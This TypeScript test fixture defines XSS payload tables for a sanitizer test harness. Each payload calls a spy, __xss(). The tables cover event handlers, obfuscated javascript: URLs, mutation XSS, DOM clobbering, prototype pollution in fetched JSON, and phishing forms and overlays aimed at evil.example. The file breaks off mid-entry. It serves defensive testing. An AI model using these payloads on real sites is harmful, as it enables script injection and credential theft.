/**
 * The XSS table: payloads written for this project, grouped by the surface they arrive through.
 * Every payload that could run calls the spy `__xss()` (installed by harness.ts), so one that
 * ever executes is caught even where the static checks of the rendered tree would miss it.
 */

export interface Vector {
  /** What the vector tries (shown as the test's name). */
  name: string;
  payload: string;
}

const v = (name: string, payload: string): Vector => ({ name, payload });

/** HTML that arrives as an article body (the `body` attribute, inline template, data). */
export const BODY_VECTORS: Vector[] = [
  // Event handlers
  v('img onerror', '<img src=x onerror=__xss()>'),
  v('img onload on a loadable image', '<img src="/test/csp/pixel.svg" onload="__xss()">'),
  v('body onload', '<body onload=__xss()><p>x</p></body>'),
  v('svg onload', '<svg onload=__xss()></svg>'),
  v('details ontoggle', '<details open ontoggle=__xss()><summary>s</summary>x</details>'),
  v('video onerror', '<video src=x onerror=__xss()></video>'),
  v('audio onerror', '<audio src=x onerror=__xss()></audio>'),
  v('onmouseover', '<p onmouseover="__xss()">hover me</p>'),
  v('onpointerenter', '<div onpointerenter=__xss()>x</div>'),
  v('a onclick', '<a href="#top" onclick="__xss();return false">x</a>'),
  v('upper-case handler', '<IMG SRC=x ONERROR=__xss()>'),
  v('spaced handler', '<img src=x onerror   =   "__xss()">'),
  v('slash-separated attributes', '<img/src=x/onerror=__xss()>'),
  v('entity-encoded handler body', '<img src=x onerror="&#95;&#95;xss&#40;&#41;">'),
  v('hex-entity handler body', '<img src=x onerror="&#x5F;&#x5F;xss()">'),
  v('marquee onstart', '<marquee onstart=__xss()>x</marquee>'),
  v('autofocus onfocus on input', '<input autofocus onfocus=__xss()>'),
  v('autofocus onfocus on select', '<select autofocus onfocus=__xss()><option>a</option></select>'),
  v('autofocus onfocus on textarea', '<textarea autofocus onfocus=__xss()></textarea>'),
  v('tabindex + autofocus + onfocus on p', '<p tabindex=0 autofocus onfocus=__xss()>x</p>'),
  v('animation start handler', '<div onanimationstart=__xss() style="animation: spin 1ms">x</div>'),
  v('duplicate handlers', '<img src=x onerror=__xss() onerror=__xss()>'),
  v('unknown element handler', '<xss-x onclick=__xss()>x</xss-x>'),
  v('unclosed tag handler', '<img src=x onerror=__xss()//'),
  v('handler on table', '<table onmouseenter=__xss()><tr><td>x</td></tr></table>'),
  v('handler on summary', '<details><summary onclick=__xss()>s</summary></details>'),
  // Scripts
  v('script', '<script>__xss()</script>'),
  v('upper-case script', '<SCRIPT>__xss()</SCRIPT>'),
  v('module script', '<script type="module">__xss()</script>'),
  v('data: script src', '<script src="data:text/javascript,__xss()"></script>'),
  v('nested script split', '<scr<script>ipt>__xss()</scr</script>ipt>'),
  v('iframe srcdoc', '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>'),
  v('iframe javascript:', '<iframe src="javascript:parent.__xss()"></iframe>'),
  v('object data javascript:', '<object data="javascript:__xss()"></object>'),
  v('embed src javascript:', '<embed src="javascript:__xss()">'),
  // javascript: in every disguise
  v('javascript: href', '<a href="javascript:__xss()">x</a>'),
  v('mixed-case scheme', '<a href="JaVaScRiPt:__xss()">x</a>'),
  v('leading spaces', '<a href="   javascript:__xss()">x</a>'),
  v('tab entity inside scheme', '<a href="java&#x09;script:__xss()">x</a>'),
  v('newline entity inside scheme', '<a href="java&#10;script:__xss()">x</a>'),
  v('carriage return inside scheme', '<a href="jav&#x0D;ascript:__xss()">x</a>'),
  v('named tab entity', '<a href="jav&Tab;ascript:__xss()">x</a>'),
  v('named newline entity', '<a href="java&NewLine;script:__xss()">x</a>'),
  v('decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss()">x</a>'),
  v(
    'padded entities without semicolons',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss()">x</a>',
  ),
  v('named colon entity', '<a href="javascript&colon;__xss()">x</a>'),
  v('hex colon entity', '<a href="javascript&#x3A;__xss()">x</a>'),
  v('one entity letter', '<a href="j&#97;vascript:__xss()">x</a>'),
  v('leading control character', '<a href="&#x01;javascript:__xss()">x</a>'),
  v('javascript: with comment and newline', '<a href="javascript://%0a__xss()">x</a>'),
  v('vbscript:', '<a href="vbscript:msgbox(1)">x</a>'),
  v('data:text/html', '<a href="data:text/html,<script>parent.__xss()</script>">x</a>'),
  v('data: base64', '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==">x</a>'),
  v('area href', '<map><area shape=rect coords="0,0,10,10" href="javascript:__xss()"></map>'),
  v('img src javascript:', '<img src="javascript:__xss()">'),
  v('srcset with one bad candidate', '<img src="/a.png" srcset="/a.png 1x, javascript:__xss() 2x">'),
  v('picture source srcset', '<picture><source srcset="javascript:__xss()"><img src="/a.png" alt=""></picture>'),
  v('video poster', '<video poster="javascript:__xss()"></video>'),
  v('blockquote cite', '<blockquote cite="javascript:__xss()">q</blockquote>'),
  v('user:password link', '<a href="https://bank.example@evil.example/">Your bank</a>'),
  v('line separator before scheme', '<a href="&#x2028;javascript:__xss()">x</a>'),
  v('form action javascript:', '<form action="javascript:__xss()"><button>go</button></form>'),
  v('formaction javascript:', '<button formaction="javascript:__xss()">go</button>'),
  v('javascript: link targeting self', '<a href="javascript:__xss()" target="_self">x</a>'),
  v('outbound link forced to a new tab', '<a href="https://evil.example/" target="_self">x</a>'),
  v('outbound link asking for opener', '<a href="https://evil.example/" target="_blank" rel="opener">x</a>'),
  // SVG and MathML namespace confusion
  v('svg script', '<svg><script>__xss()</script></svg>'),
  v('svg a javascript:', '<svg><a href="javascript:__xss()"><text x="0" y="20">x</text></a></svg>'),
  v('svg animate href', '<svg><animate attributeName="href" values="javascript:__xss()"/><a><text>x</text></a></svg>'),
  v('svg set onload', '<svg><set attributeName="onload" to="__xss()"/></svg>'),
  v('svg foreignObject', '<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>'),
  v('math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>'),
  v('math xlink:href', '<math><mi xlink:href="javascript:__xss()">x</mi></math>'),
  v('math href', '<math href="javascript:__xss()"><mi>x</mi></math>'),
  v('svg style content', '<svg><style><img src=x onerror=__xss()></style></svg>'),
  v('svg p style break-out', '<svg></p><style><a id="</style><img src=x onerror=__xss()>">'),
  v(
    'math h1 mglyph svg mtext style',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=__xss()>"></style></h1>',
  ),
  v(
    'svg use data:',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss()'/></svg>#x"/></svg>`,
  ),
  v('svg discard onbegin', '<svg><discard onbegin=__xss()></discard></svg>'),
  v('math maction', '<math><maction actiontype="statusline" xlink:href="javascript:__xss()">x</maction></math>'),
  v('svg desc break-out', '<svg><desc><img src=x onerror=__xss()></desc></svg>'),
  // Mutation XSS
  v('noscript title break-out', '<noscript><p title="</noscript><img src=x onerror=__xss()>"></noscript>'),
  v('form math mtext form mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>'),
  v('listing entities', '<listing>&lt;img src=x onerror=__xss()&gt;</listing>'),
  v('xmp raw text', '<xmp><img src=x onerror=__xss()></xmp>'),
  v('noembed break-out', '<noembed><img title="</noembed><img src=x onerror=__xss()>"></noembed>'),
  v('noframes break-out', '<noframes><img title="</noframes><img src=x onerror=__xss()>"></noframes>'),
  v('textarea break-out', '<textarea><img title="</textarea><img src=x onerror=__xss()>"></textarea>'),
  v('title break-out', '<title><img title="</title><img src=x onerror=__xss()>"></title>'),
  v('style break-out', '<style><img title="</style><img src=x onerror=__xss()>"></style>'),
  v('iframe content break-out', '<iframe><img title="</iframe><img src=x onerror=__xss()>"></iframe>'),
  v('plaintext', '<plaintext><img src=x onerror=__xss()>'),
  v('template content', '<template><img src=x onerror=__xss()></template>'),
  v('declarative shadow root', '<div><template shadowrootmode="open"><img src=x onerror=__xss()></template></div>'),
  v('entity-encoded markup in title', '<a title="&lt;/a&gt;&lt;img src=x onerror=__xss()&gt;">x</a>'),
  v('comment break-out', '<!--><img src=x onerror=__xss()>-->'),
  v('comment inside attribute', '<!--<img src="--><img src=x onerror=__xss()//">'),
  v('processing instruction', '<?xml-stylesheet ><img src=x onerror=__xss()>?>'),
  v('CDATA outside foreign content', '<![CDATA[><img src=x onerror=__xss()>]]>'),
  v('select template style comment', '<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=__xss()>">'),
  v('table foster parenting', '<table><tr><td><style></table><img src=x onerror=__xss()>'),
  // DOM clobbering
  v('name clobbers document method', '<img name="getElementById"><img name="querySelector">'),
  v('form clobbers window property', '<form name="xssProbe"><input name="attributes"></form>'),
  v('id clobbers the spy', '<a id="__xss" href="https://ledger.example/">x</a>'),
  v('id and name on document properties', '<img id="defaultView" name="cookie">'),
  v('anchor pair clobbering', '<a id="xssProbe"></a><a id="xssProbe" name="xssProbe" href="cid:__xss()"></a>'),
  v('clobbering sanitizer traversal', '<form><input name="nodeName"><input name="attributes"><input name="parentNode"></form>'),
  v('id location', '<div id="location">x</div>'),
  v('id named like a config', '<a id="CONFIG" href="https://evil.example/">x</a>'),
  // <base>, meta refresh, links in head
  v('base javascript:', '<base href="javascript:__xss()//"><a href="/x">x</a>'),
  v('base hijacking relative links', '<base href="https://evil.example/"><a href="login">x</a><img src="logo.png">'),
  v('meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:__xss()">'),
  v('meta CSP loosening', `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`),
  v('meta referrer', '<meta name="referrer" content="unsafe-url">'),
  v('link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  v('link preload script', '<link rel="modulepreload" href="data:text/javascript,__xss()">'),
  // Forms
  v(
    'phishing login form',
    '<form action="https://evil.example/login" method="post"><label>Password <input type="password" name="pw"></label><button>Sign in</button></form>',
  ),
  v('input type image', '<input type="image" src=x onerror=__xss()>'),
  v('isindex', '<isindex action="javascript:__xss()" type="image">'),
  v('button with formaction', '<button form="f" formaction="https://evil.example/">Pay now</button>'),
  v('fieldset and legend', '<fieldset><legend>Verify your card</legend><input type="text"></fieldset>'),
  v('select', '<select><option>Your bank</option></select>'),
  v('textarea', '<textarea>card number</textarea>'),
  v('output and datalist', '<output>1</output><datalist><option value="x"></datalist>'),
  // Overlays
  v('fixed full-page div', '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session expired</div>'),
  v('open dialog', '<dialog open>Log in again</dialog>'),
  v('popover', '<div popover="manual" id="p">You won</div><button popovertarget="p">Claim</button>'),
  v('style hides the page', '<style>*{display:none}</style>'),
  v('style import', '<style>@import url(https://evil.example/x.css)</style>'),
  v('style url javascript:', '<div style="background:url(javascript:__xss())">x</div>'),
  v('huge positioned image', '<img src="/a.png" width="99999" height="99999" style="position:absolute;top:0">'),
  v('full-page link', '<a href="https://evil.example/" style="display:block;position:fixed;top:0;left:0;width:100%;height:100%">x</a>'),
  v(
    'image map over the page',
    '<img src="/a.png" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9999,9999" href="https://evil.example/"></map>',
  ),
  v(
    'dressed as our error box',
    '<div class="card error" role="alert">Your session expired. <a href="https://evil.example/">Retry</a></div>',
  ),
  // Entity tricks
  v('escaped script stays text', '&lt;script&gt;__xss()&lt;/script&gt;'),
  v('numeric entities stay text', '&#60;img src=x onerror=__xss()&#62;'),
  v('double-encoded entities', '&amp;lt;img src=x onerror=__xss()&amp;gt;'),
  v('entity in tag name', '<&#105;mg src=x onerror=__xss()>'),
  // Components, attributes and the rest
  v('nested article-card', '<article-card headline="x" body="<img src=x onerror=__xss()>"></article-card>'),
  v('customized built-in', '<p is="xss-paragraph">x</p>'),
  v('slot into our shadow tree', '<slot name="x"></slot><p slot="x">x</p>'),
  v('data attribute payload', '<div data-html="<img src=x onerror=__xss()>">x</div>'),
  v('ping tracking', '<a href="https://ledger.example/" ping="https://evil.example/track">x</a>'),
  v('download drive-by', '<a href="/report.pdf" download="invoice.exe">x</a>'),
  v('referrer and eager loading', '<img src="/a.png" referrerpolicy="unsafe-url" loading="eager">'),
  v('contenteditable and accesskey', '<div contenteditable accesskey="s">x</div>'),
  v('autoplay', '<video autoplay src="/a.mp4"></video>'),
  v('part spoofing', '<p part="retry">x</p>'),
  // HTML5 cheatsheet families: elements and events that run without a click
  v('frameset onload (a document without a body)', '<frameset onload=__xss()><frame src="https://frames.example/"></frameset>'),
  v('body onpageshow', '<body onpageshow=__xss()>x</body>'),
  v('svg animate onbegin', '<svg><animate onbegin=__xss() attributeName=x dur=1s></animate></svg>'),
  v('image element alias', '<image src=x onerror=__xss()>'),
  v('video source onerror', '<video><source onerror=__xss() src=x></video>'),
  v('audio source onerror', '<audio><source src=x onerror="__xss()"></audio>'),
  v('object data: HTML', '<object data="data:text/html,<script>parent.__xss()</script>"></object>'),
  v('embed data: SVG', '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.__xss()%22/>">'),
  v('keygen autofocus', '<keygen autofocus onfocus=__xss()>'),
  v('a autofocus onfocus', '<a href="#x" id="x" autofocus onfocus=__xss()>x</a>'),
  v('style keyframes and onanimationend', '<style>@keyframes k{}</style><p style="animation-name:k" onanimationend=__xss()>x</p>'),
  v('ontransitionend with inline transition', '<p style="transition:color 1ms" ontransitionend=__xss()>x</p>'),
  v('onscroll on an overflowing box', '<div style="overflow:auto;height:1px" onscroll=__xss()><br><br><br></div>'),
  v('oncontentvisibilityautostatechange', '<div style="content-visibility:auto" oncontentvisibilityautostatechange=__xss()>x</div>'),
  v('onbeforetoggle on a popover', '<div popover id=q onbeforetoggle=__xss()>x</div>'),
  v('table background javascript:', '<table background="javascript:__xss()"><tr><td>x</td></tr></table>'),
  v('svg script href data:', '<svg><script href="data:text/javascript,__xss()"></script></svg>'),
  v('svg script xlink:href', '<svg><script xlink:href="data:,__xss()"></script></svg>'),
  v('math a xlink:href', '<math><a xlink:href="javascript:__xss()">x</a></math>'),
  v('form button formaction data:', '<form><button formaction="data:text/html,<script>parent.__xss()</script>">go</button></form>'),
  v('scheme after a form feed', '<a href="&#x0C;javascript:__xss()">x</a>'),
  v('scheme after a shift-out', '<a href="&#14;javascript:__xss()">x</a>'),
  v('scheme with a NUL inside', '<a href="java\u0000script:__xss()">x</a>'),
  v('scheme split by a soft hyphen', '<a href="java&shy;script:__xss()">x</a>'),
  v('full-width colon', '<a href="javascript\uFF1A__xss()">x</a>'),
  v('protocol-relative to a foreign host', '<a href="//evil.example/">x</a><img src="//evil.example/p.png">'),
  v('backslashes as slashes', '<a href="\\\\evil.example\\x">x</a>'),
  // Mutation XSS: namespace confusion (the text a parser sees as markup in one namespace and as
  // text in another; DOMPurify's FORBID of svg/math and its namespace checks both apply)
  v(
    'math mtext table mglyph style comment',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__xss()&gt;">',
  ),
  v('svg p title break-out', '<svg></p><title><a id="</title><img src=x onerror=__xss()>"></a></title></svg>'),
  v(
    'math annotation-xml html style',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__xss()></style></annotation-xml></math>',
  ),
  v(
    'svg annotation-xml foreignobject comment',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=__xss()>">',
  ),
  v(
    'math mi mglyph svg mtext textarea',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=__xss()>"></path></textarea></mtext></svg></mglyph></mi></math>',
  ),
  v(
    'svg foreignObject math mglyph style',
    '<svg><foreignObject><math><mi><mglyph><style><img src=x onerror=__xss()></style></mglyph></mi></math></foreignObject></svg>',
  ),
  v(
    'math mtext form mglyph svg',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=__xss()>">',
  ),
  v(
    'svg in table in math',
    '<math><mtext><table><tr><td><svg><style><img src=x onerror=__xss()></style></svg></td></tr></table></mtext></math>',
  ),
  v('svg desc with nested style comment', '<svg><desc><style><!--</style><img src=x onerror=__xss()>--></desc></svg>'),
  v('foreign CDATA break-out', '<svg><![CDATA[</svg><img src=x onerror=__xss()>]]></svg>'),
  // Mutation XSS: raw-text elements parsed differently with and without scripting
  v('noscript style break-out', '<noscript><style></noscript><img src=x onerror=__xss()></style>'),
  v('noscript comment break-out', '<noscript><!--</noscript><img src=x onerror=__xss()>--></noscript>'),
  v('style in style', '<style><style/><img src=x onerror=__xss()>'),
  v('textarea in textarea', '<textarea><textarea/><img src=x onerror=__xss()>'),
  v('title swallowing textarea', '<title><textarea></title><img src=x onerror=__xss()></textarea>'),
  v('textarea after noscript title', '<textarea></textarea><noscript><p title="</noscript><img src=x onerror=__xss()>"></p></noscript>'),
  v('noembed style break-out', '<noembed><style></noembed><img src=x onerror=__xss()></style>'),
  v('iframe noscript break-out', '<iframe><noscript></iframe><img src=x onerror=__xss()></noscript>'),
  v('xmp comment break-out', '<xmp><!--</xmp><img src=x onerror=__xss()>--></xmp>'),
  v('noframes in table', '<table><noframes><tr><td><img title="</noframes><img src=x onerror=__xss()>"></td></tr></noframes></table>'),
  v('select style break-out', '<select><style></select><img src=x onerror=__xss()></style></select>'),
  // DOM clobbering of the properties a sanitizer or a tree walk reads
  v('name ownerDocument', '<img name="ownerDocument"><form name="ownerDocument"></form>'),
  v(
    'form clobbering the tree walk',
    '<form><input name="parentNode"><input name="childNodes"><input name="firstChild"><input name="nextSibling"><input name="children"></form>',
  ),
  v(
    'form clobbering attribute methods',
    '<form><input name="removeAttribute"><input name="setAttribute"><input name="getAttribute"><input name="hasAttribute"></form>',
  ),
  v(
    'form clobbering element identity',
    '<form><input name="localName"><input name="tagName"><input name="nodeName"><input name="namespaceURI"><input name="nodeType"></form>',
  ),
  v('id currentScript', '<img id="currentScript" src="data:,x">'),
  v('embed name body', '<embed name="body"><img name="body">'),
  v('iframe name ownerDocument', '<iframe name="ownerDocument" src="about:blank"></iframe>'),
  v('object id parentElement', '<object id="parentElement"></object><object id="parentElement"></object>'),
  v('form id __proto__', '<form id="__proto__"><input name="polluted" value="1"></form>'),
  v(
    'anchor clobbering document.defaultView',
    '<a id="defaultView" href="https://evil.example/"></a><a id="defaultView" name="location" href="https://evil.example/"></a>',
  ),
  v(
    'clobbering textContent and innerHTML',
    '<form><input name="textContent"><input name="innerHTML" value="<img src=x onerror=__xss()>"></form>',
  ),
  // Template and srcdoc tricks
  v('script in template', '<template><script>__xss()</script></template>'),
  v('closed declarative shadow root', '<div><template shadowrootmode="closed"><img src=x onerror=__xss()></template></div>'),
  v('legacy shadowroot attribute', '<div><template shadowroot="open"><img src=x onerror=__xss()></template></div>'),
  v('template in template', '<template><template><img src=x onerror=__xss()></template></template>'),
  v(
    'declarative shadow root with a slot',
    '<div><template shadowrootmode="open"><slot></slot><img src=x onerror=__xss()></template><p>light</p></div>',
  ),
  v('srcdoc entity-encoded', '<iframe srcdoc="&lt;img src=x onerror=parent.__xss()&gt;"></iframe>'),
  v('srcdoc svg onload', `<iframe srcdoc='<svg onload="parent.__xss()">'></iframe>`),
  v('srcdoc base javascript:', `<iframe srcdoc='<base href="javascript:parent.__xss()//"><a href="x">x</a>'></iframe>`),
  v('srcdoc in svg foreignObject', `<svg><foreignObject><iframe srcdoc='<script>parent.__xss()</script>'></iframe></foreignObject></svg>`),
  v('template in select', '<select><template><img src=x onerror=__xss()></template></select>'),
];

/** Values for every URL attribute (`url`, `image`, `author-url`, …) and the share `url`. */
export const URL_VECTORS: Vector[] = [
  v('javascript:', 'javascript:__xss()'),
  v('mixed case', 'JavaScript:__xss()'),
  v('leading space', ' javascript:__xss()'),
  v('leading tab', '\tjavascript:__xss()'),
  v('leading newline', '\njavascript:__xss()'),
  v('tab inside scheme', 'java\tscript:__xss()'),
  v('newline inside scheme', 'java\nscript:__xss()'),
  v('carriage return inside scheme', 'java\rscript:__xss()'),
  v('NUL inside scheme', 'java\u0000script:__xss()'),
  v('leading C0 control', '\u0001javascript:__xss()'),
  v('leading non-breaking space', '\u00a0javascript:__xss()'),
  v('zero-width space inside scheme', 'java\u200bscript:__xss()'),
  v('byte order mark first', '\ufeffjavascript:__xss()'),
  v('entity-looking (not decoded in attributes set from JS)', 'javascript&#58;__xss()'),
  v('percent-encoded colon', 'javascript%3A__xss()'),
  v('javascript with comment', 'javascript://ledger.example/%0a__xss()'),
  v('vbscript:', 'vbscript:msgbox(1)'),
  v('data: HTML', 'data:text/html,<script>parent.__xss()</script>'),
  v('data: base64', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg=='),
  v('data: SVG', "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss()'/>"),
  v('blob:', 'blob:https://ledger.example/4f6e2a4c'),
  v('file:', 'file:///etc/passwd'),
  v('filesystem:', 'filesystem:https://ledger.example/temporary/x'),
  v('about:', 'about:blank'),
  v('view-source:', 'view-source:https://ledger.example/'),
  v('ws:', 'wss://evil.example/socket'),
  v('ftp:', 'ftp://evil.example/x'),
  v('user and password', 'https://user:pass@ledger.example/'),
  v('look-alike user info', 'https://bank.example@evil.example/'),
  v('right-to-left override', 'https://ledger.example/\u202egpj.exe'),
  v('line separator', 'https://ledger.example/\u2028x'),
  v('over-long URL', `https://ledger.example/${'a'.repeat(3000)}`),
  v('quote break-out', 'https://ledger.example/" onmouseover="__xss()'),
  v('angle break-out', 'https://ledger.example/"><img src=x onerror=__xss()>'),
  v('mailto: header injection in a resource', 'mailto:x@ledger.example?body=<script>__xss()</script>'),
  v('intent: scheme', 'intent://evil.example/#Intent;scheme=javascript;end'),
];

/** Plain-text values: headline, excerpt, section, author, publisher, image alt, tags, menu labels. */
export const TEXT_VECTORS: Vector[] = [
  v('img tag', '<img src=x onerror=__xss()>'),
  v('script tag', '<script>__xss()</script>'),
  v('closing our markup', '</h2></a><img src=x onerror=__xss()>'),
  v('attribute break-out', '" onmouseover="__xss()" x="'),
  v('single-quote break-out', "' onfocus='__xss()' autofocus='"),
  v('svg', '<svg onload=__xss()>'),
  v('entities', '&lt;img src=x onerror=__xss()&gt;'),
  v('AngularJS template', "{{constructor.constructor('__xss()')()}}"),
  v('template arithmetic', '{{7*7}} ${7*7} #{7*7} <%= 7*7 %>'),
  v('JS template literal', '${__xss()}'),
  v('ERB template', '<%= __xss() %>'),
  v('Vue directive text', '<div v-html="\'<img src=x onerror=__xss()>\'"></div>'),
  v('Lit marker look-alike', '<?lit$123$>lit$123$ <!--?lit$123$-->'),
  v('UI placeholders', '{headline} {n} {names} {date}'),
  v('prototype keys', '__proto__ constructor prototype'),
  v('javascript: as text', 'javascript:__xss()'),
  v('CSS injection', '</style><style>*{display:none}</style>'),
  v('comment trick', '<!--<img src="--><img src=x onerror=__xss()//">'),
  v('right-to-left override', 'Headline \u202e)(ssx__=rorreno'),
  v('NUL and controls', 'Head\u0000line\u0008 with\u001b controls'),
  v('very long text', `Long ${'word '.repeat(2000)}`),
  v('markdown link', '[click](javascript:__xss())'),
  v('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:__xss()">'),
  v('iframe srcdoc', '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>'),
  v('form', '<form action="https://evil.example/"><input name="pw"></form>'),
  v('dialog', '<dialog open>Log in again</dialog>'),
];

/** Values for every UI string (`registerStrings`), which sites set and translators write. */
export const STRING_VECTORS: Vector[] = [
  v('img tag', '<img src=x onerror=__xss()>'),
  v('script tag', '<script>__xss()</script>'),
  v('attribute break-out', '" onfocus="__xss()" autofocus="'),
  v('AngularJS template', "{{constructor.constructor('__xss()')()}}"),
  v('placeholder look-alikes', '{toString} {constructor} {__proto__} {headline}{n}'),
  v('javascript: text', 'javascript:__xss()'),
  v('entities', '&lt;img src=x onerror=__xss()&gt;'),
  v('closing markup', '</button></a><form><input name=pw>'),
];

/** A fetched document: body text, content type, and what the test expects. */
export interface DocumentVector {
  name: string;
  /** Response body, written as raw text so `__proto__` stays a key, not a prototype. */
  body: string;
  type?: string;
}

const d = (name: string, body: string, type = 'application/json'): DocumentVector => ({ name, body, type });
const js = (value: unknown) => JSON.stringify(value);
const IMG = '<img src=x onerror=__xss()>';

/** Documents a `src` URL may return: JSON in every format, and HTML pages. */
export const DOCUMENT_VECTORS: DocumentVector[] = [
  // The native schema
  d('native: body with handler', js({ headline: 'Native', body: IMG })),
  d('native: headline with markup', js({ headline: IMG, body: '<p>x</p>' })),
  d(
    'native: javascript: url, image, author and menu',
    js({
      headline: 'URLs',
      url: 'javascript:__xss()',
      image: { url: 'javascript:__xss()', alt: IMG },
      authors: [{ name: IMG, url: 'javascript:__xss()', image: 'data:image/svg+xml,<svg onload=__xss()>' }],
      publisher: { name: 'P', url: 'vbscript:x', logo: 'javascript:__xss()' },
      comments: { url: 'javascript:__xss()', count: 1 },
      menu: [{ label: IMG, url: 'javascript:__xss()' }],
    }),
  ),
  d('native: __proto__ key', '{"headline":"Proto","__proto__":{"polluted":"yes","body":"<img src=x onerror=__xss()>"}}'),
  d('native: constructor.prototype', '{"headline":"Ctor","constructor":{"prototype":{"polluted":"yes"}}}'),
  d(
    'native: nested __proto__ in authors',
    '{"headline":"Nested","authors":[{"name":"A","__proto__":{"polluted":"yes","url":"javascript:__xss()"}}]}',
  ),
  d(
    'native: __proto__ in image and comments',
    '{"headline":"Deep","image":{"__proto__":{"url":"javascript:__xss()"}},"comments":{"__proto__":{"polluted":"yes"}}}',
  ),
  d('native: no headline but __proto__.headline', '{"__proto__":{"headline":"Inherited"},"body":"<img src=x onerror=__xss()>"}'),
  d(
    'native: wrong types everywhere',
    js({ headline: ['a'], body: { toString: 1 }, authors: 7, tags: 'x', menu: {}, image: 5, lang: '"><script>', dir: 'javascript' }),
  ),
  d('native: mutation XSS body', js({ headline: 'mXSS', body: '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>' })),
  d('native: SVG body', js({ headline: 'SVG', body: '<svg><a href="javascript:__xss()"><text>x</text></a></svg>' })),
  d(
    'native: form and overlay body',
    js({
      headline: 'Form',
      body: '<form action="https://evil.example/"><input type=password></form><dialog open>x</dialog><div popover>y</div>',
    }),
  ),
  d('native: lang and dir injection', js({ headline: 'Lang', lang: 'en" onload="__xss()', dir: 'rtl" onclick="__xss()' })),
  d('native: template syntax', js({ headline: "{{constructor.constructor('__xss()')()}}", excerpt: '${__xss()}', body: '<p>{{7*7}}</p>' })),
  // WordPress REST
  d(
    'wordpress: content.rendered with handler',
    js({ id: 1, link: 'https://ledger.example/p/1', title: { rendered: 'WP' }, content: { rendered: IMG } }),
  ),
  d(
    'wordpress: entity-encoded markup in title',
    js({ id: 2, title: { rendered: '&lt;img src=x onerror=__xss()&gt;' }, content: { rendered: '<p>x</p>' } }),
  ),
  d('wordpress: markup in title', js({ id: 3, title: { rendered: IMG }, content: { rendered: '<p>x</p>' } })),
  d(
    'wordpress: javascript: link and avatar',
    js({
      id: 4,
      link: 'javascript:__xss()',
      title: { rendered: 'Links' },
      content: { rendered: '<p>x</p>' },
      _embedded: {
        author: [{ name: IMG, link: 'javascript:__xss()', avatar_urls: { 96: 'javascript:__xss()' } }],
        'wp:featuredmedia': [{ source_url: 'javascript:__xss()', alt_text: IMG }],
      },
    }),
  ),
  d(
    'wordpress: __proto__ in _embedded',
    '{"id":5,"title":{"rendered":"Proto"},"content":{"rendered":"<p>x</p>"},"_embedded":{"__proto__":{"polluted":"yes"},"author":[{"__proto__":{"name":"Inherited"}}]}}',
  ),
  d(
    'wordpress: excerpt with script',
    js({
      id: 6,
      title: { rendered: 'Excerpt' },
      excerpt: { rendered: '<p><script>__xss()</script>Summary</p>' },
      content: { rendered: '' },
    }),
  ),
  // JSON Feed
  d(
    'jsonfeed: content_html handler',
    js({
      version: 'https://jsonfeed.org/version/1.1',
      title: 'Feed',
      items: [{ id: '1', title: 'Item', content_html: IMG, url: 'javascript:__xss()' }],
    }),
  ),
  d(
    'jsonfeed: __proto__ item',
    '{"version":"https://jsonfeed.org/version/1.1","title":"F","items":[{"id":"1","title":"I","__proto__":{"polluted":"yes","content_html":"<img src=x onerror=__xss()>"}}]}',
  ),
  d(
    'jsonfeed: markup in title and author',
    js({
      version: 'https://jsonfeed.org/version/1',
      items: [{ id: '1', title: IMG, author: { name: IMG, url: 'javascript:__xss()', avatar: 'javascript:__xss()' }, content_text: IMG }],
    }),
  ),
  // oEmbed
  d(
    'oembed: html with script',
    js({ type: 'rich', version: '1.0', title: 'oEmbed', html: '<script>__xss()</script><iframe src="javascript:__xss()"></iframe>' }),
  ),
  d(
    'oembed: javascript: author and thumbnail',
    js({
      type: 'link',
      version: '1.0',
      title: IMG,
      author_url: 'javascript:__xss()',
      thumbnail_url: 'javascript:__xss()',
      provider_name: IMG,
    }),
  ),
  // schema.org JSON-LD
  d(
    'json-ld: articleBody and headline',
    js({ '@context': 'https://schema.org', '@type': 'NewsArticle', headline: IMG, articleBody: IMG, url: 'javascript:__xss()' }),
  ),
  d(
    'json-ld: @graph with javascript: references',
    js({
      '@context': 'https://schema.org',
      '@graph': [
        { '@type': 'NewsArticle', headline: 'Graph', author: { '@id': '#a' }, image: { '@id': '#i' } },
        { '@id': '#a', '@type': 'Person', name: IMG, url: 'javascript:__xss()' },
        { '@id': '#i', '@type': 'ImageObject', url: 'javascript:__xss()' },
      ],
    }),
  ),
  d(
    'json-ld: __proto__ node',
    '{"@context":"https://schema.org","@type":"Article","headline":"LD","__proto__":{"polluted":"yes"},"author":{"__proto__":{"name":"x"}}}',
  ),
  // HTML pages
  d(
    'html page: og:title with markup',
